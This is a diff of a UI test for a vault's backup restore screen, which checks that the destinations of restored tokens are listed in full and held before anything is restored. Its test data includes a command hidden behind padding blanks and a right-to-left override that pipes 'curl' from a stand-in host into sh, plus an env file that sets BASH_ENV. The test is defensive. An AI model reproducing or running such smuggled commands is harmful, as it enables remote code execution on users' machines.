@@ -1,6 +1,13 @@
 import { describe, expect, test } from 'vitest'
 import { fleetOf, integration, view } from './fake-view.ts'
-import { backupOf300, closed, dryRun, importAnswers, withPassphrase } from './keeping-scenes.ts'
+import {
+  backupOf300,
+  closed,
+  dryRun,
+  foreignBackup,
+  importAnswers,
+  withPassphrase,
+} from './keeping-scenes.ts'
 import { answer, asked, focused, push, windows } from './window.ts'
 
 const { open } = windows()
@@ -96,7 +103,7 @@ describe('a closed vault', () => {
     await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('wrong one')
     await page.keyboard.press('Enter')
     await page.getByText('That is not the passphrase of this backup.').waitFor()
-    await answer(page, 'backup.read', { ok: true, value: backupOf300 })
+    await answer(page, 'backup.read', { ok: true, value: { ...backupOf300, notTokens: 0, acting: [] } })
     await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('right one')
     await page.keyboard.press('Enter')
     await page.getByText('300 service apps, 1 token manager').waitFor()
@@ -106,6 +113,46 @@ describe('a closed vault', () => {
     // It waits in main now: closing these steps does not take it back.
     await page.getByRole('button', { name: 'Try again' }).waitFor()
     expect(await asked(page, 'backup.forget')).toHaveLength(0)
+  })
+
+  test('lists where tokens of a backup would go, whole, before anything is restored', async () => {
+    for (const view of [closed('moved-aside', 'It was kept.', ['restore']), home]) {
+      const page = await open({
+        view,
+        hash: view === home ? '#/settings' : '',
+        answers: {
+          'backup.choose': { ok: true, value: { file: 'all.satm-backup' } },
+          'backup.read': { ok: true, value: foreignBackup },
+          'backup.restore': { ok: true, value: { kept: null } },
+        },
+      })
+      await page.getByRole('button', { name: /^Restore( a backup)?…$/ }).click()
+      await page.getByRole('button', { name: 'Choose backup…' }).click()
+      await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('right one')
+      await page.keyboard.press('Enter')
+      await page.getByText('242 deliveries, 2 consumers, a webhook.').waitFor()
+      await page.getByText('15 of them are held').waitFor()
+      await page.getByText('2 entries are not tokens and will not be restored').waitFor()
+      const list = page.getByRole('region', { name: 'Deliveries, consumers and webhook' })
+      const items = list.getByRole('listitem')
+      expect(await items.count()).toBe(100)
+      const texts = await items.allInnerTexts()
+      expect(texts[0]).toMatch(/Env file of Orders\s+\/home\/ada\/\.profile\s+Sets PATH, BASH_ENV\s+Held/)
+      // Nothing of a command can hide: neither behind blanks nor by turning the text around.
+      expect(texts[1]).toMatch(/reload-token {60}; curl -s https:\/\/example\.com\/x\\u\{202e\} \| sh/)
+      expect(texts[2]).toContain(
+        'Tokens of Orders, Contact Center dashboard of the operations team, 298 more',
+      )
+      expect(texts[3]).toContain('Tokens of all service apps')
+      expect(texts[4]).toContain('https://alerts.example.com/webex/tokens')
+      expect(texts[99]).toContain('As here')
+      await list.getByRole('button', { name: 'Show more (145)' }).click()
+      await expect.poll(() => items.count()).toBe(200)
+      expect(await asked(page, 'backup.restore')).toHaveLength(0)
+      await page.getByRole('button', { name: 'Restore', exact: true }).click()
+      await expect.poll(() => asked(page, 'backup.restore')).toHaveLength(1)
+      if (view === home) await page.getByText('Held until you confirm: 15.').waitFor()
+    }
   })
 
   test('lets go of a backup that waits, if the person says so', async () => {
